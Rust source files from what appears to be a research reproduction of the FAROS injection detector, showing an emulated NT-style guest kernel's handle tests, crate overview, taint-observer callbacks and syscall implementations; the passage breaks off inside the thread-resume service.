        let mut t = HandleTable::new();
        let h = t.insert(HandleObject::File { path: "x".into(), offset: 0 });
        if let Some(HandleObject::File { offset, .. }) = t.get_mut(h) {
            *offset = 42;
        }
        assert!(matches!(t.get(h), Some(HandleObject::File { offset: 42, .. })));
    }

    #[test]
    fn iter_in_handle_order() {
        let mut t = HandleTable::new();
        let a = t.insert(HandleObject::Process(Pid(1)));
        let b = t.insert(HandleObject::Process(Pid(2)));
        let order: Vec<Handle> = t.iter().map(|(h, _)| h).collect();
        assert_eq!(order, vec![a, b]);
    }
}
