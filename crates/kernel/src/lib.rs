//! # faros-kernel — the NT-flavoured paravirtual guest kernel
//!
//! The "Windows 7 guest" of the FAROS reproduction, built on the FE32
//! emulator:
//!
//! * [`machine`] — the whole system: CPU, physical memory, scheduler,
//!   process table, console;
//! * [`nt`] — syscall numbers (including the paper's 26 file services) and
//!   NTSTATUS codes;
//! * [`syscalls`] — the service implementations (injection surface included:
//!   `NtWriteVirtualMemory`, `NtCreateThreadEx`, `NtUnmapViewOfSection`,
//!   `NtSetContextThread`);
//! * [`process`] / [`handle`] — processes, threads, VAD regions, handles;
//! * [`module`] — the FDL image format and its export tables;
//! * [`fs`] — the in-memory filesystem;
//! * [`net`] — the simulated network with scripted remote endpoints and the
//!   record/replay nondeterminism log;
//! * [`event`] — the PANDA-style observer callbacks every analysis layer
//!   attaches through.
//!
//! ## Example
//!
//! ```
//! use faros_emu::asm::Asm;
//! use faros_emu::isa::Reg;
//! use faros_emu::mmu::Perms;
//! use faros_kernel::machine::{Machine, MachineConfig, RunExit, IMAGE_BASE};
//! use faros_kernel::module::{FdlImage, Section};
//! use faros_kernel::event::NullObserver;
//! use faros_kernel::nt::Sysno;
//!
//! # fn main() -> Result<(), Box<dyn std::error::Error>> {
//! // A program that prints "hi" and exits.
//! let mut asm = Asm::new(IMAGE_BASE);
//! asm.mov_label(Reg::Ebx, "msg");
//! asm.mov_ri(Reg::Ecx, 2);
//! asm.mov_ri(Reg::Eax, Sysno::NtDisplayString as u32);
//! asm.int_syscall();
//! asm.hlt();
//! asm.label("msg");
//! asm.raw(b"hi");
//! let code = asm.assemble()?;
//!
//! let image = FdlImage {
//!     entry: IMAGE_BASE,
//!     export_table_va: IMAGE_BASE + 0x2000,
//!     sections: vec![Section { va: IMAGE_BASE, data: code, perms: Perms::RX }],
//!     exports: vec![],
//! };
//!
//! let mut machine = Machine::new(MachineConfig::default());
//! machine.install_program("C:/hi.exe", &image)?;
//! machine.spawn_process("C:/hi.exe", false, None, &mut NullObserver)?;
//! assert_eq!(machine.run(1_000_000, &mut NullObserver), RunExit::AllExited);
//! assert_eq!(machine.console()[0].1, "hi");
//! # Ok(())
//! # }
//! ```

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod event;
pub mod fs;
pub mod handle;
pub mod machine;
pub mod module;
pub mod net;
pub mod nt;
pub mod process;
pub mod syscalls;

pub use event::{ByteRange, CopyRun, KernelEvents, NullObserver, Observer};
pub use handle::{Handle, Pid, Tid};
pub use machine::{ExecMode, Machine, MachineConfig, MachineError, RunExit};
pub use module::{Export, FdlImage, ModuleInfo};
pub use net::{FlowTuple, NetLog, NetworkFabric, RemoteEndpoint};
pub use nt::{NtStatus, Sysno};
pub use process::{Process, ProcessInfo, ThreadState, VadRegion};
