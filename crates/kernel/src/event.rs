//! Kernel event callbacks — the PANDA `syscalls2` / `OSI` surface of the
//! reproduction.
//!
//! Anything that wants to observe the guest (the replay plugin manager, the
//! FAROS detector, the CuckooBox-like baseline) implements [`KernelEvents`]
//! (and usually [`faros_emu::cpu::CpuHooks`] as well; the [`Observer`]
//! supertrait bundles the two). All methods default to no-ops.
//!
//! The taint-relevant callbacks carry guest **physical** byte ranges, so a
//! DIFT observer can label or propagate shadow state without re-translating:
//!
//! * [`KernelEvents::net_rx`] — the netflow taint *source* (DMA labeling
//!   point, like PANDA taint2's virtio hook);
//! * [`KernelEvents::file_read`] / [`KernelEvents::file_write`] — the file
//!   tag insertion points (the 26 hooked file syscalls);
//! * [`KernelEvents::guest_copy`] — kernel-mediated guest-to-guest copies
//!   (`NtWriteVirtualMemory` & co.): shadow must be copied byte-for-byte,
//!   the whole-system equivalent of tracing the kernel's memcpy loop;
//! * [`KernelEvents::kernel_write`] — kernel wrote *fresh, untainted* bytes
//!   over a range: shadow must be cleared (also fired when a recycled
//!   physical frame is mapped, so stale taint never leaks across processes).

use crate::handle::{Pid, Tid};
use crate::module::ModuleInfo;
use crate::net::FlowTuple;
use crate::nt::{NtStatus, Sysno};
use crate::process::ProcessInfo;
use faros_emu::cpu::CpuHooks;

/// A contiguous run of guest physical bytes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ByteRange {
    /// First physical address.
    pub phys: u32,
    /// Length in bytes.
    pub len: u32,
}

/// One contiguous piece of a kernel-mediated guest-to-guest copy.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CopyRun {
    /// Destination physical address.
    pub dst_phys: u32,
    /// Source physical address.
    pub src_phys: u32,
    /// Length in bytes.
    pub len: u32,
}

/// Kernel-level callbacks (see module docs). All default to no-ops.
#[allow(unused_variables)]
pub trait KernelEvents {
    /// A syscall is about to be serviced.
    fn syscall_enter(&mut self, pid: Pid, tid: Tid, sysno: Sysno, args: &[u32; 5]) {}

    /// A syscall finished with `status` (blocking services report
    /// [`NtStatus::Pending`] on park and fire again on completion).
    fn syscall_exit(&mut self, pid: Pid, tid: Tid, sysno: Sysno, status: NtStatus) {}

    /// A process was created (OSI event).
    fn process_created(&mut self, info: &ProcessInfo) {}

    /// A process exited or was terminated (OSI event).
    fn process_exited(&mut self, pid: Pid, name: &str) {}

    /// A thread was created.
    fn thread_created(&mut self, pid: Pid, tid: Tid) {}

    /// A thread exited.
    fn thread_exited(&mut self, pid: Pid, tid: Tid) {}

    /// A module was loaded. `pid` is `None` for boot-time kernel modules
    /// (mapped into every process). `export_table` holds the physical bytes
    /// of the materialized export table in on-disk order — the region FAROS
    /// scans to taint function pointers.
    fn module_loaded(&mut self, pid: Option<Pid>, module: &ModuleInfo, export_table: &[ByteRange]) {
    }

    /// Network bytes were placed in guest memory on behalf of `pid` — the
    /// netflow labeling point.
    fn net_rx(&mut self, pid: Pid, flow: &FlowTuple, dst: &[ByteRange]) {}

    /// Guest bytes left for the network.
    fn net_tx(&mut self, pid: Pid, flow: &FlowTuple, src: &[ByteRange]) {}

    /// File bytes were placed in guest memory (read or mapped view).
    fn file_read(&mut self, pid: Pid, path: &str, version: u32, dst: &[ByteRange]) {}

    /// Guest bytes were written to a file.
    fn file_write(&mut self, pid: Pid, path: &str, version: u32, src: &[ByteRange]) {}

    /// The kernel copied guest bytes to guest bytes (e.g.
    /// `NtWriteVirtualMemory`). Shadow state must follow.
    fn guest_copy(&mut self, src_pid: Pid, dst_pid: Pid, runs: &[CopyRun]) {}

    /// The kernel wrote fresh untainted bytes (or mapped a recycled frame);
    /// shadow state over `dst` must be cleared.
    fn kernel_write(&mut self, pid: Pid, dst: &[ByteRange]) {}

    /// The scheduler switched threads; register shadow state should be
    /// swapped alongside.
    fn context_switch(&mut self, from: Option<(Pid, Tid)>, to: (Pid, Tid)) {}

    /// The guest printed to the console (`NtDisplayString`).
    fn console_output(&mut self, pid: Pid, text: &str) {}

    /// The machine's virtual clock advanced to `now` outside instruction
    /// retirement (idle boosts, scheduling points). Observers that timestamp
    /// events keep their clock current from this plus `InsnCtx::retired`.
    fn tick(&mut self, now: u64) {}
}

// Forwarding impl so `&mut dyn Observer` can be handed to the generic
// machine entry points.
impl<T: KernelEvents + ?Sized> KernelEvents for &mut T {
    fn syscall_enter(&mut self, pid: Pid, tid: Tid, sysno: Sysno, args: &[u32; 5]) {
        (**self).syscall_enter(pid, tid, sysno, args);
    }
    fn syscall_exit(&mut self, pid: Pid, tid: Tid, sysno: Sysno, status: NtStatus) {
        (**self).syscall_exit(pid, tid, sysno, status);
    }
    fn process_created(&mut self, info: &ProcessInfo) {
        (**self).process_created(info);
    }
    fn process_exited(&mut self, pid: Pid, name: &str) {
        (**self).process_exited(pid, name);
    }
    fn thread_created(&mut self, pid: Pid, tid: Tid) {
        (**self).thread_created(pid, tid);
    }
    fn thread_exited(&mut self, pid: Pid, tid: Tid) {
        (**self).thread_exited(pid, tid);
    }
    fn module_loaded(&mut self, pid: Option<Pid>, module: &ModuleInfo, export_table: &[ByteRange]) {
        (**self).module_loaded(pid, module, export_table);
    }
    fn net_rx(&mut self, pid: Pid, flow: &FlowTuple, dst: &[ByteRange]) {
        (**self).net_rx(pid, flow, dst);
    }
    fn net_tx(&mut self, pid: Pid, flow: &FlowTuple, src: &[ByteRange]) {
        (**self).net_tx(pid, flow, src);
    }
    fn file_read(&mut self, pid: Pid, path: &str, version: u32, dst: &[ByteRange]) {
        (**self).file_read(pid, path, version, dst);
    }
    fn file_write(&mut self, pid: Pid, path: &str, version: u32, src: &[ByteRange]) {
        (**self).file_write(pid, path, version, src);
    }
    fn guest_copy(&mut self, src_pid: Pid, dst_pid: Pid, runs: &[CopyRun]) {
        (**self).guest_copy(src_pid, dst_pid, runs);
    }
    fn kernel_write(&mut self, pid: Pid, dst: &[ByteRange]) {
        (**self).kernel_write(pid, dst);
    }
    fn context_switch(&mut self, from: Option<(Pid, Tid)>, to: (Pid, Tid)) {
        (**self).context_switch(from, to);
    }
    fn console_output(&mut self, pid: Pid, text: &str) {
        (**self).console_output(pid, text);
    }
    fn tick(&mut self, now: u64) {
        (**self).tick(now);
    }
}

/// The full observer surface: CPU hooks + kernel events.
pub trait Observer: CpuHooks + KernelEvents {}

impl<T: CpuHooks + KernelEvents + ?Sized> Observer for T {}

/// An observer that ignores everything — the "replay without FAROS"
/// configuration of Table V.
#[derive(Debug, Clone, Copy, Default)]
pub struct NullObserver;

impl CpuHooks for NullObserver {}
impl KernelEvents for NullObserver {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn null_observer_is_an_observer() {
        fn takes_observer<O: Observer>(_o: &mut O) {}
        takes_observer(&mut NullObserver);
    }

    #[test]
    fn byte_range_and_copy_run_are_plain_data() {
        let r = ByteRange { phys: 0x1000, len: 4 };
        let c = CopyRun { dst_phys: 0x2000, src_phys: 0x1000, len: 4 };
        assert_eq!(r, r.clone());
        assert_eq!(c, c.clone());
    }
}
