//! The system-service implementations.
//!
//! ## Calling convention
//!
//! `EAX` = service number ([`Sysno`]); arguments in `EBX ECX EDX ESI EDI`;
//! the `NTSTATUS` returns in `EAX`. Services with output values take a guest
//! pointer argument and write through it (a pointer of 0 means "don't
//! care"). Strings are `(ptr, len)` pairs.
//!
//! | service | args |
//! |---|---|
//! | `NtCreateFile` | `path_ptr, path_len, _flags, out_handle_ptr` |
//! | `NtOpenFile` | `path_ptr, path_len, out_handle_ptr` |
//! | `NtReadFile` | `h, buf_ptr, len, out_read_ptr` |
//! | `NtWriteFile` | `h, buf_ptr, len, out_written_ptr` |
//! | `NtClose` | `h` |
//! | `NtDeleteFile` | `path_ptr, path_len` |
//! | `NtQueryInformationFile` | `h, out_ptr` (writes `size, version`) |
//! | `NtSetInformationFile` | `h, new_offset` (seek) |
//! | `NtQueryDirectoryFile` | `prefix_ptr, prefix_len, out_buf_ptr, out_cap` |
//! | `NtCreateSection` | `file_h, out_handle_ptr` |
//! | `NtOpenSection` | `path_ptr, path_len, out_handle_ptr` |
//! | `NtMapViewOfSection` | `section_h, va, perms_bits` |
//! | `NtUnmapViewOfSection` | `proc_h, va` |
//! | `NtCreateUserProcess` | `path_ptr, path_len, flags(bit0=suspended), out_handle_ptr` |
//! | `NtOpenProcess` | `pid, out_handle_ptr` |
//! | `NtTerminateProcess` | `h_or_CURRENT, exit_code` |
//! | `NtSuspendThread`/`NtResumeThread` | `thread_h` |
//! | `NtCreateThreadEx` | `proc_h, start_va, arg, flags(bit0=suspended), out_handle_ptr` |
//! | `NtGetContextThread`/`NtSetContextThread` | `thread_h, ctx_ptr` (10 × u32: regs, eip, eflags) |
//! | `NtAllocateVirtualMemory` | `proc_h, size, perms_bits, out_base_ptr` |
//! | `NtProtectVirtualMemory` | `proc_h, va, size, perms_bits` |
//! | `NtFreeVirtualMemory` | `proc_h, va` |
//! | `NtWriteVirtualMemory` | `proc_h, dst_va, src_ptr, len` |
//! | `NtReadVirtualMemory` | `proc_h, src_va, dst_ptr, len` |
//! | `NtQueryVirtualMemory` | `proc_h, va, out_ptr` (writes `base,size,perms,kind`) |
//! | `NtQueryInformationProcess` | `proc_h, out_ptr` (writes `pid,parent,alive`) |
//! | `NtSocketCreate` | `out_handle_ptr` |
//! | `NtSocketConnect` | `h, ip_be, port` |
//! | `NtSocketSend` | `h, buf_ptr, len, out_sent_ptr` |
//! | `NtSocketRecv` | `h, buf_ptr, len, out_recvd_ptr` (blocking) |
//! | `NtDelayExecution` | `ticks` |
//! | `NtQuerySystemTime` | `out_ptr` |
//! | `NtDisplayString` | `ptr, len` |
//!
//! `perms_bits`: bit0 = R, bit1 = W, bit2 = X (matching the FDL section
//! encoding).

use crate::event::Observer;
use crate::handle::{Handle, HandleObject, Pid, Tid};
use crate::machine::Machine;
use crate::net::RecvOutcome;
use crate::nt::{NtStatus, Sysno, CURRENT_PROCESS, CURRENT_THREAD};
use crate::process::{BlockReason, RegionKind, ThreadState};
use faros_emu::cpu::CpuContext;
use faros_emu::isa::Reg;
use faros_emu::mem::PAGE_SIZE;
use faros_emu::mmu::{Access, Perms};

fn perms_from_bits(bits: u32) -> Perms {
    let mut p = Perms::NONE;
    if bits & 1 != 0 {
        p = p.union(Perms::R);
    }
    if bits & 2 != 0 {
        p = p.union(Perms::W);
    }
    if bits & 4 != 0 {
        p = p.union(Perms::X);
    }
    p
}

fn perms_to_bits(p: Perms) -> u32 {
    (p.contains(Perms::R) as u32)
        | ((p.contains(Perms::W) as u32) << 1)
        | ((p.contains(Perms::X) as u32) << 2)
}

impl Machine {
    /// Services one syscall for `(pid, tid)`.
    ///
    /// Returns `true` when the service completed (status in `EAX`) and
    /// `false` when the thread parked (the scheduler will retry with
    /// `retried = true` once the thread wakes).
    pub(crate) fn service_syscall<O: Observer>(
        &mut self,
        pid: Pid,
        tid: Tid,
        sysno: Sysno,
        args: [u32; 5],
        retried: bool,
        obs: &mut O,
    ) -> bool {
        if !retried {
            obs.syscall_enter(pid, tid, sysno, &args);
        }
        let outcome = self.dispatch(pid, tid, sysno, args, retried, obs);
        match outcome {
            Some(status) => {
                self.cpu.set_reg(Reg::Eax, status as u32);
                obs.syscall_exit(pid, tid, sysno, status);
                true
            }
            None => {
                if !retried {
                    obs.syscall_exit(pid, tid, sysno, NtStatus::Pending);
                }
                false
            }
        }
    }

    fn dispatch<O: Observer>(
        &mut self,
        pid: Pid,
        tid: Tid,
        sysno: Sysno,
        a: [u32; 5],
        retried: bool,
        obs: &mut O,
    ) -> Option<NtStatus> {
        use Sysno::*;
        Some(match sysno {
            // --- files ---
            NtCreateFile => self.sys_create_file(pid, a, obs),
            NtOpenFile => self.sys_open_file(pid, a, obs),
            NtReadFile => self.sys_read_file(pid, a, obs),
            NtWriteFile => self.sys_write_file(pid, a, obs),
            NtClose => self.sys_close(pid, a),
            NtDeleteFile => self.sys_delete_file(pid, a),
            NtQueryInformationFile => self.sys_query_info_file(pid, a, obs),
            NtSetInformationFile => self.sys_set_info_file(pid, a),
            NtQueryDirectoryFile => self.sys_query_directory(pid, a, obs),
            NtCreateSection => self.sys_create_section(pid, a, obs),
            NtOpenSection => self.sys_open_section(pid, a, obs),
            NtMapViewOfSection => self.sys_map_view(pid, a, obs),
            NtUnmapViewOfSection => self.sys_unmap_view(pid, a),
            NtQueryAttributesFile => self.sys_query_attributes(pid, a),
            NtQueryFullAttributesFile => self.sys_query_attributes(pid, a),
            NtFlushBuffersFile | NtLockFile | NtUnlockFile | NtReadFileScatter
            | NtWriteFileGather | NtDeviceIoControlFile | NtFsControlFile
            | NtQueryVolumeInformationFile | NtSetVolumeInformationFile | NtQueryEaFile
            | NtSetEaFile => NtStatus::Success,

            // --- process / memory / thread ---
            NtCreateUserProcess => self.sys_create_process(pid, a, obs),
            NtOpenProcess => self.sys_open_process(pid, a, obs),
            NtTerminateProcess => self.sys_terminate_process(pid, a, obs),
            NtSuspendThread => self.sys_suspend_thread(pid, a),
            NtResumeThread => self.sys_resume_thread(pid, a),
            NtCreateThreadEx => self.sys_create_thread(pid, a, obs),
            NtGetContextThread => self.sys_get_context(pid, tid, a, obs),
            NtSetContextThread => self.sys_set_context(pid, tid, a),
            NtAllocateVirtualMemory => self.sys_alloc_vm(pid, a, obs),
            NtProtectVirtualMemory => self.sys_protect_vm(pid, a),
            NtFreeVirtualMemory => self.sys_free_vm(pid, a),
            NtWriteVirtualMemory => self.sys_write_vm(pid, a, obs),
            NtReadVirtualMemory => self.sys_read_vm(pid, a, obs),
            NtQueryVirtualMemory => self.sys_query_vm(pid, a, obs),
            NtQueryInformationProcess => self.sys_query_process(pid, a, obs),

            // --- sockets ---
            NtSocketCreate => self.sys_socket_create(pid, a, obs),
            NtSocketConnect => self.sys_socket_connect(pid, a),
            NtSocketBind => self.sys_socket_bind(pid, a),
            NtSocketListen => self.sys_socket_listen(pid, a),
            NtSocketAccept => return self.sys_socket_accept(pid, tid, a, obs),
            NtSocketSend => self.sys_socket_send(pid, a, obs),
            NtSocketRecv => return self.sys_socket_recv(pid, tid, a, obs),

            // --- misc ---
            NtDelayExecution => return self.sys_sleep(pid, tid, a, retried),
            NtQuerySystemTime => self.sys_query_time(pid, a, obs),
            NtDisplayString => self.sys_display_string(pid, a, obs),
            NtYieldExecution => NtStatus::Success,
            LdrLoadDll => self.sys_load_library(pid, a, obs),
        })
    }

    // ------------------------------------------------------------------
    // helpers
    // ------------------------------------------------------------------

    fn out_u32s<O: Observer>(&mut self, pid: Pid, ptr: u32, vals: &[u32], obs: &mut O) -> NtStatus {
        if ptr == 0 {
            return NtStatus::Success;
        }
        let mut bytes = Vec::with_capacity(vals.len() * 4);
        for v in vals {
            bytes.extend_from_slice(&v.to_le_bytes());
        }
        match self.write_guest(pid, ptr, &bytes) {
            Ok(runs) => {
                obs.kernel_write(pid, &runs);
                NtStatus::Success
            }
            Err(_) => NtStatus::AccessViolation,
        }
    }

    fn resolve_process(&self, caller: Pid, handle: u32) -> Result<Pid, NtStatus> {
        if handle == CURRENT_PROCESS {
            return Ok(caller);
        }
        let proc = self.procs.get(&caller).ok_or(NtStatus::InvalidHandle)?;
        match proc.handles.get(Handle(handle)) {
            Some(HandleObject::Process(pid)) => Ok(*pid),
            _ => Err(NtStatus::InvalidHandle),
        }
    }

    fn resolve_thread(&self, caller: Pid, caller_tid: Tid, handle: u32) -> Result<(Pid, Tid), NtStatus> {
        if handle == CURRENT_THREAD {
            return Ok((caller, caller_tid));
        }
        let proc = self.procs.get(&caller).ok_or(NtStatus::InvalidHandle)?;
        match proc.handles.get(Handle(handle)) {
            Some(HandleObject::Thread(pid, tid)) => Ok((*pid, *tid)),
            _ => Err(NtStatus::InvalidHandle),
        }
    }

    fn read_path(&self, pid: Pid, ptr: u32, len: u32) -> Result<String, NtStatus> {
        if len == 0 || len > 1024 {
            return Err(NtStatus::InvalidParameter);
        }
        self.read_guest_str(pid, ptr, len).map_err(|_| NtStatus::AccessViolation)
    }

    // ------------------------------------------------------------------
    // files
    // ------------------------------------------------------------------

    fn sys_create_file<O: Observer>(&mut self, pid: Pid, a: [u32; 5], obs: &mut O) -> NtStatus {
        let Ok(path) = self.read_path(pid, a[0], a[1]) else {
            return NtStatus::AccessViolation;
        };
        if !self.fs.exists(&path) {
            self.fs.create(&path, Vec::new()).expect("checked absent");
        }
        let proc = self.procs.get_mut(&pid).expect("caller exists");
        let h = proc.handles.insert(HandleObject::File { path, offset: 0 });
        self.out_u32s(pid, a[3], &[h.0], obs)
    }

    fn sys_open_file<O: Observer>(&mut self, pid: Pid, a: [u32; 5], obs: &mut O) -> NtStatus {
        let Ok(path) = self.read_path(pid, a[0], a[1]) else {
            return NtStatus::AccessViolation;
        };
        if !self.fs.exists(&path) {
            return NtStatus::ObjectNameNotFound;
        }
        let proc = self.procs.get_mut(&pid).expect("caller exists");
        let h = proc.handles.insert(HandleObject::File { path, offset: 0 });
        self.out_u32s(pid, a[2], &[h.0], obs)
    }

    fn sys_read_file<O: Observer>(&mut self, pid: Pid, a: [u32; 5], obs: &mut O) -> NtStatus {
        let (path, offset) = {
            let proc = self.procs.get(&pid).expect("caller exists");
            match proc.handles.get(Handle(a[0])) {
                Some(HandleObject::File { path, offset }) => (path.clone(), *offset),
                _ => return NtStatus::InvalidHandle,
            }
        };
        let Ok(data) = self.fs.read(&path, offset, a[2] as usize) else {
            return NtStatus::ObjectNameNotFound;
        };
        let version = self.fs.version(&path).unwrap_or(1);
        if data.is_empty() {
            let _ = self.out_u32s(pid, a[3], &[0], obs);
            return NtStatus::EndOfFile;
        }
        let runs = match self.write_guest(pid, a[1], &data) {
            Ok(r) => r,
            Err(_) => return NtStatus::AccessViolation,
        };
        obs.file_read(pid, &path, version, &runs);
        if let Some(HandleObject::File { offset, .. }) = self
            .procs
            .get_mut(&pid)
            .and_then(|p| p.handles.get_mut(Handle(a[0])))
        {
            *offset += data.len() as u32;
        }
        self.out_u32s(pid, a[3], &[data.len() as u32], obs)
    }

    fn sys_write_file<O: Observer>(&mut self, pid: Pid, a: [u32; 5], obs: &mut O) -> NtStatus {
        let (path, offset) = {
            let proc = self.procs.get(&pid).expect("caller exists");
            match proc.handles.get(Handle(a[0])) {
                Some(HandleObject::File { path, offset }) => (path.clone(), *offset),
                _ => return NtStatus::InvalidHandle,
            }
        };
        let Ok(bytes) = self.read_guest(pid, a[1], a[2]) else {
            return NtStatus::AccessViolation;
        };
        let src_runs = self
            .phys_runs(pid, a[1], a[2], Access::Read)
            .expect("read_guest just succeeded");
        let Ok(version) = self.fs.write(&path, offset, &bytes) else {
            return NtStatus::ObjectNameNotFound;
        };
        obs.file_write(pid, &path, version, &src_runs);
        if let Some(HandleObject::File { offset, .. }) = self
            .procs
            .get_mut(&pid)
            .and_then(|p| p.handles.get_mut(Handle(a[0])))
        {
            *offset += bytes.len() as u32;
        }
        self.out_u32s(pid, a[3], &[bytes.len() as u32], obs)
    }

    fn sys_close(&mut self, pid: Pid, a: [u32; 5]) -> NtStatus {
        let tick = self.ticks();
        let proc = self.procs.get_mut(&pid).expect("caller exists");
        let conn = match proc.handles.get(Handle(a[0])) {
            Some(HandleObject::Socket { conn, .. }) => *conn,
            Some(_) => None,
            None => return NtStatus::InvalidHandle,
        };
        proc.handles.close(Handle(a[0]));
        if let Some(c) = conn {
            self.net.close(c, tick);
        }
        NtStatus::Success
    }

    fn sys_delete_file(&mut self, pid: Pid, a: [u32; 5]) -> NtStatus {
        let Ok(path) = self.read_path(pid, a[0], a[1]) else {
            return NtStatus::AccessViolation;
        };
        match self.fs.delete(&path) {
            Ok(()) => NtStatus::Success,
            Err(_) => NtStatus::ObjectNameNotFound,
        }
    }

    fn sys_query_info_file<O: Observer>(&mut self, pid: Pid, a: [u32; 5], obs: &mut O) -> NtStatus {
        let path = {
            let proc = self.procs.get(&pid).expect("caller exists");
            match proc.handles.get(Handle(a[0])) {
                Some(HandleObject::File { path, .. }) => path.clone(),
                _ => return NtStatus::InvalidHandle,
            }
        };
        match self.fs.info(&path) {
            Ok(info) => self.out_u32s(pid, a[1], &[info.size, info.version], obs),
            Err(_) => NtStatus::ObjectNameNotFound,
        }
    }

    fn sys_set_info_file(&mut self, pid: Pid, a: [u32; 5]) -> NtStatus {
        let proc = self.procs.get_mut(&pid).expect("caller exists");
        match proc.handles.get_mut(Handle(a[0])) {
            Some(HandleObject::File { offset, .. }) => {
                *offset = a[1];
                NtStatus::Success
            }
            _ => NtStatus::InvalidHandle,
        }
    }

    fn sys_query_directory<O: Observer>(&mut self, pid: Pid, a: [u32; 5], obs: &mut O) -> NtStatus {
        let Ok(prefix) = self.read_path(pid, a[0], a[1]) else {
            return NtStatus::AccessViolation;
        };
        let listing = self.fs.list(&prefix).join("\n");
        let mut bytes = listing.into_bytes();
        bytes.truncate(a[3] as usize);
        match self.write_guest(pid, a[2], &bytes) {
            Ok(runs) => {
                obs.kernel_write(pid, &runs);
                NtStatus::Success
            }
            Err(_) => NtStatus::AccessViolation,
        }
    }

    fn sys_create_section<O: Observer>(&mut self, pid: Pid, a: [u32; 5], obs: &mut O) -> NtStatus {
        let path = {
            let proc = self.procs.get(&pid).expect("caller exists");
            match proc.handles.get(Handle(a[0])) {
                Some(HandleObject::File { path, .. }) => path.clone(),
                _ => return NtStatus::InvalidHandle,
            }
        };
        let proc = self.procs.get_mut(&pid).expect("caller exists");
        let h = proc.handles.insert(HandleObject::Section { path });
        self.out_u32s(pid, a[1], &[h.0], obs)
    }

    fn sys_open_section<O: Observer>(&mut self, pid: Pid, a: [u32; 5], obs: &mut O) -> NtStatus {
        let Ok(path) = self.read_path(pid, a[0], a[1]) else {
            return NtStatus::AccessViolation;
        };
        if !self.fs.exists(&path) {
            return NtStatus::ObjectNameNotFound;
        }
        let proc = self.procs.get_mut(&pid).expect("caller exists");
        let h = proc.handles.insert(HandleObject::Section { path });
        self.out_u32s(pid, a[2], &[h.0], obs)
    }

    fn sys_map_view<O: Observer>(&mut self, pid: Pid, a: [u32; 5], obs: &mut O) -> NtStatus {
        let path = {
            let proc = self.procs.get(&pid).expect("caller exists");
            match proc.handles.get(Handle(a[0])) {
                Some(HandleObject::Section { path }) => path.clone(),
                _ => return NtStatus::InvalidHandle,
            }
        };
        let Ok(data) = self.fs.read(&path, 0, usize::MAX / 2) else {
            return NtStatus::ObjectNameNotFound;
        };
        let version = self.fs.version(&path).unwrap_or(1);
        let va = a[1];
        let perms = perms_from_bits(a[2]);
        if self
            .map_fresh(pid, va, data.len().max(1) as u32, perms, RegionKind::Mapped { path: path.clone() }, obs)
            .is_err()
        {
            return NtStatus::ConflictingAddresses;
        }
        // Mapped pages may be read-only; write in kernel mode.
        match self.write_guest_kernel(pid, va, &data) {
            Ok(runs) => {
                obs.file_read(pid, &path, version, &runs);
                NtStatus::Success
            }
            Err(_) => NtStatus::AccessViolation,
        }
    }

    fn sys_unmap_view(&mut self, pid: Pid, a: [u32; 5]) -> NtStatus {
        let target = match self.resolve_process(pid, a[0]) {
            Ok(t) => t,
            Err(s) => return s,
        };
        match self.unmap_region(target, a[1]) {
            Ok(_) => NtStatus::Success,
            Err(_) => NtStatus::InvalidParameter,
        }
    }

    fn sys_query_attributes(&mut self, pid: Pid, a: [u32; 5]) -> NtStatus {
        match self.read_path(pid, a[0], a[1]) {
            Ok(path) if self.fs.exists(&path) => NtStatus::Success,
            Ok(_) => NtStatus::ObjectNameNotFound,
            Err(s) => s,
        }
    }

    // ------------------------------------------------------------------
    // process / memory / thread
    // ------------------------------------------------------------------

    fn sys_create_process<O: Observer>(&mut self, pid: Pid, a: [u32; 5], obs: &mut O) -> NtStatus {
        let Ok(path) = self.read_path(pid, a[0], a[1]) else {
            return NtStatus::AccessViolation;
        };
        let suspended = a[2] & 1 != 0;
        match self.spawn_process(&path, suspended, Some(pid), obs) {
            Ok(child) => {
                let proc = self.procs.get_mut(&pid).expect("caller exists");
                let h = proc.handles.insert(HandleObject::Process(child));
                // Also hand out a handle to the child's main thread.
                let main_tid = self
                    .procs
                    .get(&child)
                    .and_then(|p| p.threads.keys().next().copied());
                if let Some(mt) = main_tid {
                    let proc = self.procs.get_mut(&pid).expect("caller exists");
                    let th = proc.handles.insert(HandleObject::Thread(child, mt));
                    let status = self.out_u32s(pid, a[3], &[h.0, th.0, child.0], obs);
                    if status != NtStatus::Success {
                        return status;
                    }
                }
                NtStatus::Success
            }
            Err(crate::machine::MachineError::NoSuchFile(_)) => NtStatus::ObjectNameNotFound,
            Err(_) => NtStatus::InvalidParameter,
        }
    }

    fn sys_open_process<O: Observer>(&mut self, pid: Pid, a: [u32; 5], obs: &mut O) -> NtStatus {
        let target = Pid(a[0]);
        if !self.procs.contains_key(&target) {
            return NtStatus::ObjectNameNotFound;
        }
        let proc = self.procs.get_mut(&pid).expect("caller exists");
        let h = proc.handles.insert(HandleObject::Process(target));
        self.out_u32s(pid, a[1], &[h.0], obs)
    }

    fn sys_terminate_process<O: Observer>(&mut self, pid: Pid, a: [u32; 5], obs: &mut O) -> NtStatus {
        let target = match self.resolve_process(pid, a[0]) {
            Ok(t) => t,
            Err(s) => return s,
        };
        self.terminate_process(target, a[1], obs);
        NtStatus::Success
    }

    fn sys_suspend_thread(&mut self, pid: Pid, a: [u32; 5]) -> NtStatus {
        let current_tid = self.current.map(|(_, t)| t).unwrap_or_default();
        let (tp, tt) = match self.resolve_thread(pid, current_tid, a[0]) {
            Ok(x) => x,
            Err(s) => return s,
        };
        let Some(thread) = self.procs.get_mut(&tp).and_then(|p| p.threads.get_mut(&tt)) else {
            return NtStatus::InvalidHandle;
        };
        thread.state = match thread.state {
            ThreadState::Suspended(n) => ThreadState::Suspended(n + 1),
            ThreadState::Exited => return NtStatus::InvalidDeviceState,
            _ => ThreadState::Suspended(1),
        };
        NtStatus::Success
    }

    fn sys_resume_thread(&mut self, pid: Pid, a: [u32; 5]) -> NtStatus {
        let current_tid = self.current.map(|(_, t)| t).unwrap_or_default();
        let (tp, tt) = match self.resolve_thread(pid, current_tid, a[0]) {
            Ok(x) => x,
            Err(s) => return s,
        };
        let Some(thread) = self.procs.get_mut(&tp).and_then(|p| p.threads.get_mut(&tt)) else {
            return NtStatus::InvalidHandle;
        };
        match thread.state {
            ThreadState::Suspended(1) => {
                thread.state = ThreadState::Ready;
                self.wake_thread(tp, tt);
                NtStatus::Success
            }
            ThreadState::Suspended(n) => {
